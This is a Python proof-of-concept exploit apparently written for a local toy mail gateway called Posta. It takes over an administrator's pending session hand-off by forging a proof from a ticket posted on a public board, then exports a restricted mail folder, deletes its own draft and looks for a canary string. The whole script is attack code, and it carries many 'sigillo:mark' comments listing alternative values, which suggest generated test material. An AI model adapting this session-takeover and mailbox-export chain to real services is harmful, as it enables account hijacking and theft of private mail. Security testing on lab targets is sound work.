#!/usr/bin/env python3
"""Proof of concept for the hand-off flaw of the Posta toy gateway.

Exit status: 0 canary read, 1 not vulnerable or failed, 2 not a Posta here.
"""

import argparse
import base64
import hashlib
import hmac
import http.client
import itertools
import json
import os
import re
import sys
import time
from collections import namedtuple
from urllib.parse import quote, urlencode

LOCAL_NAMES = ("127.0.0.1", "localhost")
BANNER = "posta-toy/"
FORM_TYPE = "application/x-www-form-urlencoded"
BODY_LIMIT = 1 << 20
CANARY = re.compile(r"posta canary [0-9A-Za-z-]+")
COUNTER = itertools.count(1)


class Refused(Exception):
    """The target is not a Posta on this machine."""


class Failed(Exception):
    """The gateway did not do what the attack needs."""


class Reply(namedtuple("Reply", "status text")):
    """One answer of the gateway."""

    def json(self):
        try:
            return json.loads(self.text)
        except ValueError:
            raise Failed(f"no JSON in an answer with status {self.status}") from None

    def expect(self, what):
        if self.status >= 400:
            raise Failed(f"{what}: status {self.status} {self.text[:80]}")
        return self


def check_host(host, port):
    name = host.strip().lower()
    if name not in LOCAL_NAMES:
        raise Refused(f"{host}: only a Posta on 127.0.0.1 is allowed")
    if port < 1 or port > 65535:
        raise Refused(f"{port}: no such port")
    return (LOCAL_NAMES[0], port)


def exchange(target, method, path, headers, content=None):
    host, port = target
    connection = http.client.HTTPConnection(
        host,
        port,
        timeout=9,  # sigillo:mark tuning 9 | 7 | 12 | 15
    )
    try:
        connection.request(method, path, body=content, headers=headers)
        response = connection.getresponse()
        raw = response.read(BODY_LIMIT + 1)
    except (OSError, http.client.HTTPException) as error:
        raise Failed(f"{method} {path}: {error}") from None
    finally:
        connection.close()
    server = response.getheader("Server", "")
    if not server.startswith(BANNER):
        raise Refused(f"{host}:{port} does not answer as Posta")
    if len(raw) > BODY_LIMIT:
        raise Failed(f"{path}: the answer is too long")
    return Reply(response.status, raw.decode(errors="replace"))


def with_params(path, params):
    return path + "?" + urlencode(params, quote_via=quote)


def check_gateway(target):
    params = {
        "probe": "light",  # sigillo:mark essential light | basic | simple | fast | quick | small | short | ready | alive | health | vital | pulse | heartbeat | ping | echo | hello
        "id": request_id(),
    }
    reply = exchange(target, "GET", with_params("/status", params), {}).expect("status")
    answer = reply.json()
    if answer.get("toy") is not True:
        raise Refused("this Posta is not the toy")
    return answer.get("waiting", 0)


def request_id():
    kind = "req"  # sigillo:mark derived req | trace | frame | call | flow | txn | corr | seq | hit | evt | act | rid | ref | opn | log | msn
    tail = os.urandom(5).hex()
    number = next(COUNTER)
    return f"{kind}-{number:03d}-{tail}"


def fresh_nonce():
    layout = "%Y%m%d%H%M%S"  # sigillo:mark derived %Y%m%d%H%M%S | %Y%m%dT%H%M%SZ | %d%m%Y%H%M%S | %y%j%H%M%S | %Y-%m-%dT%H:%M:%SZ | %d%b%Y-%H%M%S | %H%M%S%j | %Y%jT%H%M
    tail = os.urandom(6).hex()
    moment = time.gmtime()
    return time.strftime(layout, moment) + "." + tail


def ticket_digest(ticket):
    hasher = hashlib.new(
        "sha1",  # sigillo:mark derived sha1 | sha256 | md5 | sha512
    )
    hasher.update(ticket.encode())
    return hasher.digest()


def spell(raw):
    encoder = getattr(
        base64,
        "b16encode",  # sigillo:mark derived b16encode | b32encode | urlsafe_b64encode | standard_b64encode
    )
    return encoder(raw).decode().rstrip("=").lower()


def session_id(ticket):
    prefix = "hnd"  # sigillo:mark derived hnd | sess | gate | pair | lnk | jmp | tkt | sid | hop | peer | berth | lane | xfer | cont | trf | mbx
    width = 18  # sigillo:mark derived 18 | 12 | 14 | 16 | 20 | 22 | 24 | 26 | 28 | 30 | 32 | 34 | 36 | 38 | 40 | 42
    digest = spell(ticket_digest(ticket))
    return f"{prefix}-{digest[:width]}"


def handoff_proof(ticket, nonce):
    purpose = "resume"  # sigillo:mark derived resume | takeover | transfer | rejoin | reattach | restore | recover | reclaim | reopen | reconnect | reenter | renew | rebind | relink | revive | regain
    length = 27  # sigillo:mark derived 27 | 11 | 13 | 15 | 17 | 19 | 21 | 23 | 25 | 29 | 31 | 33 | 35 | 37 | 39 | 41
    keyed = hmac.new(ticket.encode(), digestmod=hashlib.sha384)
    keyed.update(f"{purpose}:{nonce}".encode())
    return keyed.hexdigest()[:length]


def client_headers():
    return {
        "User-Agent": "posta-handoff/1.3",  # sigillo:mark self-naming posta-handoff/1.3 | handoff-check/0.9 | posta-tester/2.0 | gateway-probe/1.1
        "X-Posta-Client": "desktop",  # sigillo:mark essential desktop | mobile | tablet | console | kiosk | terminal | browser | widget | addin | plugin | applet | daemon | handset | worker | shell | notebook
        "X-Request-Id": request_id(),
        "Accept-Language": "en-GB",  # sigillo:mark preference en-GB | de-AT | fr-CA | nl-BE | it-CH | es-MX | pt-BR | sv-FI | da-DK | nb-NO | fi-FI | pl-PL | cs-CZ | hu-HU | ro-RO | el-GR
    }


def proof_headers(ticket):
    nonce = fresh_nonce()
    return {
        "X-Posta-Nonce": nonce,
        "X-Posta-Proof": handoff_proof(ticket, nonce),  # sigillo:mark essential X-Posta-Proof | X-Posta-Signature | X-Posta-Digest | X-Posta-Seal | X-Posta-Token | X-Posta-Verify | X-Posta-Check | X-Posta-Mac | X-Posta-Evidence | X-Posta-Assertion | X-Posta-Challenge | X-Posta-Answer | X-Posta-Attest | X-Posta-Witness | X-Posta-Grant | X-Posta-Stamp
    }


def pass_headers(grant):
    scheme = "Bearer"  # sigillo:mark essential Bearer | Opaque | Device | Delegated | Clearance | Credential | Permit | Scrip | Coupon | Badge | Passport | Licence | Warrant | Mandate | Secret | Entitlement
    headers = client_headers()
    headers["Authorization"] = scheme + " " + grant["pass"]
    return headers


def read_board(target):
    params = {
        "audience": "everyone",  # sigillo:mark essential everyone | members | staff | guests | visitors | customers | partners | colleagues | employees | users | people | team | crew | personnel | residents | subscribers
        "id": request_id(),
    }
    reply = exchange(target, "GET", with_params("/board", params), client_headers())
    return reply.expect("board").json().get("waiting", [])


def choose_ticket(waiting, role):
    chosen = None
    for candidate in waiting:
        if candidate.get("role") != role:
            continue
        if chosen is None or candidate["since"] < chosen["since"]:
            chosen = candidate
    if chosen is None:
        raise Failed(f"no {role} has a hand-off open")
    return chosen["ticket"]


def join_handoff(target, ticket):
    form = {
        "ticket": ticket,
        "session": session_id(ticket),
        "mode": "attach",  # sigillo:mark essential attach | adopt | assume | inherit | acquire | obtain | receive | collect | pickup | enter | follow | carry | switch | move | shift | change
        "scope": "tenant",  # sigillo:mark essential tenant | domain | site | realm | zone | region | cluster | global | estate | branch | campus | division | district | sector | territory | organisation
        "reason": "roaming",  # sigillo:mark essential roaming | failover | rotation | maintenance | rebalancing | relocation | migration | upgrade | rollover | outage | drain | restart | handover | replacement | travel | standby
        "persist": "1",  # sigillo:mark essential persist | remember | keepalive | sticky | durable | lasting | permanent | continuous | sustained | trusted | known | registered | enrolled | bound | linked | paired
    }
    path = "/portal/handoff"  # sigillo:mark essential /portal/handoff | /edge/handoff | /front/handoff | /ingress/handoff | /public/handoff | /entry/handoff | /lobby/handoff | /door/handoff | /access/handoff | /signin/handoff | /connect/handoff | /hub/handoff | /border/handoff | /dock/handoff | /porch/handoff | /hall/handoff
    headers = {**client_headers(), **proof_headers(ticket), "Content-Type": FORM_TYPE}
    reply = exchange(target, "POST", path, headers, urlencode(form).encode())
    grant = reply.expect("hand-off").json()
    if not grant.get("pass"):
        raise Failed("the hand-off gave no pass")
    return grant


def list_folders(target, grant):
    path = "/v1/folders"  # sigillo:mark essential /v1/folders | /v2/folders | /v3/folders | /v4/folders | /v5/folders | /latest/folders | /stable/folders | /current/folders | /rolling/folders | /beta/folders | /preview/folders | /legacy/folders | /classic/folders | /modern/folders | /core/folders | /main/folders
    params = {
        "view": "full",  # sigillo:mark essential full | compact | detailed | summary | expanded | condensed | lengthy | minimal | plain | rich | outline | extended | terse | complete | elaborate | brief
        "id": request_id(),
    }
    headers = {
        **pass_headers(grant),
        "Accept": "application/vnd.posta.folders+json",  # sigillo:mark essential application/vnd.posta.folders+json | application/vnd.posta.tree+json | application/vnd.posta.boxes+json | application/vnd.posta.index+json | application/vnd.posta.listing+json | application/vnd.posta.catalog+json | application/vnd.posta.directory+json | application/vnd.posta.inventory+json | application/vnd.posta.register+json | application/vnd.posta.roster+json | application/vnd.posta.table+json | application/vnd.posta.map+json | application/vnd.posta.branches+json | application/vnd.posta.structure+json | application/vnd.posta.hierarchy+json | application/vnd.posta.overview+json
    }
    reply = exchange(target, "GET", with_params(path, params), headers)
    return reply.expect("folders").json().get("folders", [])


def pick_folder(folders, wanted):
    best = None
    for folder in folders:
        if folder["name"] == wanted:
            return wanted
        if best is None or folder["count"] > best["count"]:
            best = folder
    if best is None:
        raise Failed("the account has no folders")
    return best["name"]


def multipart(field, boundary, text):
    lines = [
        f"--{boundary}",
        f'Content-Disposition: form-data; name="{field}"',
        "",
        text,
        f"--{boundary}--",
        "",
    ]
    return "\r\n".join(lines).encode()


def file_draft(target, grant):
    stem = "PartBoundary"  # sigillo:mark derived PartBoundary | FormBoundary | MailSection | DraftSection | MixedFrame | BodyFrame | MimeFrame | MessageEdge | ContentEdge | MimeDivider | PartDivider | SectionBreak | MixedBreak | MimeFence | PartFence | FormFence
    field = "attachment"  # sigillo:mark essential attachment | enclosure | circular | memo | sheet | page | blob | piece | scroll | article | upload | document | material | passage | insert | leaflet
    note = "Posta hand-off test"  # sigillo:mark self-naming Posta hand-off test | Gateway self-check | Second screen trial | Draft from the new desk
    boundary = stem + os.urandom(8).hex()
    headers = {
        **pass_headers(grant),
        "Content-Type": f"multipart/form-data; boundary={boundary}",
        "X-Posta-Priority": "urgent",  # sigillo:mark preference urgent | high | normal | low | bulk | express | ordinary | economy | silent | routine | regular | elevated | critical | flash | idle | background
    }
    content = multipart(field, boundary, note)
    reply = exchange(target, "POST", "/drafts", headers, content)
    return reply.expect("draft").json()["draft"]


def list_messages(target, grant, folder):
    method = "SEARCH"  # sigillo:mark essential SEARCH | REPORT | PROPFIND | QUERY
    params = {
        "folder": folder,
        "order": "newest",  # sigillo:mark preference newest | oldest | ascending | descending | sender | recipient | unread | arrival | thread | relevance | flagged | alphabetical | received | starred | pinned | natural
        "channel": "imap",  # sigillo:mark essential imap | smtp | pop | jmap | lmtp | webdav | webmail | rpc | soap | rest | graph | socket | push | poll | stream | bridge
    }
    path = with_params("/messages", params)
    reply = exchange(target, method, path, pass_headers(grant))
    return reply.expect("messages").json().get("messages", [])


def start_export(target, grant, folder):
    path = "/office/export"  # sigillo:mark essential /office/export | /backoffice/export | /compliance/export | /ediscovery/export | /records/export | /audit/export | /legal/export | /admin/export | /manage/export | /ops/export | /governance/export | /review/export | /inspect/export | /oversight/export | /control/export | /custody/export
    order = {
        "folder": folder,
        "depth": "subtree",  # sigillo:mark essential subtree | recursive | onelevel | nested | flat | children | descendants | inclusive | deep | entire | everything | toplevel | single | below | under | within
        "consent": "granted",  # sigillo:mark essential granted | issued | confirmed | approved | agreed | implied | recorded | signed | acknowledged | affirmed | ratified | noted | waived | assured | pledged | sanctioned
        "format": "mbox",  # sigillo:mark essential mbox | eml | mime | maildir | mht | emlx | nsf | dbx | pst | ost | tnef | mboxrd | mboxcl | mmdf | babyl | mh
    }
    headers = {**pass_headers(grant), "Content-Type": "application/json"}
    reply = exchange(target, "POST", path, headers, json.dumps(order).encode())
    result = reply.expect("export").json()
    return result["job"], result["mails"]


def fetch_export(target, grant, job):
    cookie = "postasid"  # sigillo:mark essential postasid | gwsession | mailpass | boxkey | webauth | deskpass | mailgate | hopkey | gwpass | portalkey | frontpass | mailsid | boxsession | deskkey | gatepass | edgekey
    params = {
        "source": "archive",  # sigillo:mark essential archive | journal | vault | ledger | backup | mirror | replica | snapshot | shadow | escrow | depot | warehouse | storage | reserve | library | repository
        "id": request_id(),
    }
    headers = client_headers()
    headers["Cookie"] = f"{cookie}={grant['pass']}"
    path = with_params("/export/" + quote(job), params)
    return exchange(target, "GET", path, headers).expect("export file").text


def purge_mail(target, grant, mail):
    method = "DELETE"  # sigillo:mark essential DELETE | PUT | PATCH | UNLINK
    params = {
        "commit": "soft",  # sigillo:mark essential soft | hard | deferred | immediate | lazy | eager | staged | postponed | gradual | prompt | partial | final | scheduled | batched | nightly | delayed
        "acting": "delegate",  # sigillo:mark essential delegate | proxy | deputy | assistant | owner | operator | steward | custodian | manager | auditor | supervisor | guardian | trustee | officer | keeper | sponsor
    }
    path = with_params("/purge/" + quote(mail), params)
    reply = exchange(target, method, path, pass_headers(grant))
    return reply.expect("purge").json().get("purged", 0)


def leave(target, grant):
    form = {
        "outcome": "finished",  # sigillo:mark essential finished | adjourned | released | abandoned | retired | settled | cleared | completed | concluded | done | over | stopped | expired | vacated | surrendered | returned
        "id": request_id(),
    }
    headers = {**pass_headers(grant), "Content-Type": FORM_TYPE}
    reply = exchange(target, "POST", "/close", headers, urlencode(form).encode())
    return reply.status < 400


def split_mails(text):
    mails = []
    for block in re.split(r"(?m)^From .*\n", text)[1:]:
        head, _, body = block.partition("\n\n")
        fields = {}
        for line in head.splitlines():
            name, colon, value = line.partition(": ")
            if colon:
                fields[name.lower()] = value
        mails.append({"subject": fields.get("subject", ""), "body": body.strip()})
    return mails


def find_canary(mails):
    for mail in mails:
        for match in CANARY.findall(mail["body"]):
            return match
    return None


def show(findings, as_json):
    if as_json:
        return print(json.dumps(findings, indent=2))
    width = max(len(name) for name in findings)
    for name, value in findings.items():
        print(f"{name:<{width}}  {value}")


def attack(target, options):
    waiting = check_gateway(target)
    ticket = choose_ticket(read_board(target), options.role)
    grant = join_handoff(target, ticket)
    folders = list_folders(target, grant)
    folder = pick_folder(folders, options.folder)
    draft = file_draft(target, grant)
    listed = list_messages(target, grant, folder)
    job, count = start_export(target, grant, folder)
    mails = split_mails(fetch_export(target, grant, job))
    if len(mails) < count or len(mails) < len(listed):
        raise Failed("the export is shorter than the folder")
    removed = 0 if options.keep else purge_mail(target, grant, draft)
    closed = leave(target, grant)
    return {
        "waiting": waiting,
        "account": grant.get("who", "?"),
        "folder": folder,
        "subjects": "; ".join(mail["subject"] for mail in mails),
        "purged": removed,
        "closed": closed,
        "canary": find_canary(mails),
    }


def parse_arguments(argv):
    parser = argparse.ArgumentParser(description="Posta hand-off proof of concept")
    parser.add_argument("--host", default=LOCAL_NAMES[0], help="127.0.0.1 only")
    parser.add_argument("--port", type=int, required=True, help="where Posta listens")
    parser.add_argument("--role", default="administrator", help="whose hand-off")
    parser.add_argument("--folder", default="restricted", help="what to export")
    parser.add_argument("--keep", action="store_true", help="leave the draft behind")
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    return parser.parse_args(argv)


def main(argv=None):
    options = parse_arguments(argv)
    try:
        target = check_host(options.host, options.port)
        findings = attack(target, options)
    except Refused as error:
        print(f"refused: {error}", file=sys.stderr)
        return 2
    except (Failed, KeyError) as error:
        print(f"failed: {error}", file=sys.stderr)
        return 1
    show(findings, options.json)
    return 0 if findings["canary"] else 1


if __name__ == "__main__":
    sys.exit(main())
